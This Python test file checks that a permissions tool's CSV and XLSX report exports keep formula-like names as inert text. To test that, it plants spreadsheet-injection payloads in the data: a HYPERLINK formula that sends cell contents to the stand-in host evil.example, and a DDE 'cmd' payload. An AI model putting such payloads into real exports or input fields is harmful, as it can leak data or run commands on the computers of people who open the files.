"""Names that a spreadsheet would run as formulas stay text: CSV cells neutralised with a leading apostrophe
(`presentation.csv_cells`), XLSX cells stored as strings whatever they start with."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from permscope.presentation.reports.files import make_report_file
from permscope.store.engine import make_engine
from permscope.store.tables import AuthorizationSystemRow, FindingRow, IdentityRow
from permscope.workflows.reports import ReportFormat, ReportKind

from .conftest import AWS_ACCOUNT, EVERYTHING

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def hostile_copy(demo: Engine, folder: Path) -> Engine:
    """A copy of the demo whose production account, one finding and one identity bear formula-like names."""
    assert demo.url.database is not None
    path = folder / "hostile.sqlite3"
    with demo.connect() as connection:
        connection.exec_driver_sql("PRAGMA wal_checkpoint(FULL)")
    shutil.copyfile(demo.url.database, path)
    engine = make_engine(f"sqlite:///{path}")
    with Session(engine) as session, session.begin():
        session.execute(
            update(AuthorizationSystemRow)
            .where(AuthorizationSystemRow.system_id == AWS_ACCOUNT)
            .values(name=HOSTILE)
        )
        session.execute(update(FindingRow).values(subject_name="@SUM(1+1)*cmd|' /C calc'!A0"))
        session.execute(update(IdentityRow).values(display_name="+1+cmd"))
    return engine


def test_formula_like_names_are_text_in_csv_and_xlsx(demo: Engine, tmp_path: Path) -> None:
    engine = hostile_copy(demo, tmp_path)
    try:

        def made(kind: ReportKind, fmt: ReportFormat) -> Path:
            return make_report_file(engine, kind, fmt, [AWS_ACCOUNT], within=EVERYTHING, folder=tmp_path).path

        rows = list(csv.reader(io.StringIO(made(ReportKind.ANALYTICS, ReportFormat.CSV).read_text())))
        names = {row[rows[0].index("Identity or resource")] for row in rows[1:]}
        assert names == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
        pci = list(csv.DictReader(io.StringIO(made(ReportKind.PCI, ReportFormat.CSV).read_text())))
        assert pci and {row["Identity"] for row in pci} == {"'+1+cmd"}
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

        book = load_workbook(made(ReportKind.ANALYTICS, ReportFormat.XLSX))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no formula anywhere"
        systems = book["Systems"]
        assert systems["C2"].value == HOSTILE and systems["C2"].data_type == "s"
        report = [cell.value for cell in book["Report"]["B"]]
        assert f"AWS {AWS_ACCOUNT} ({HOSTILE})" in report
    finally:
        engine.dispose()
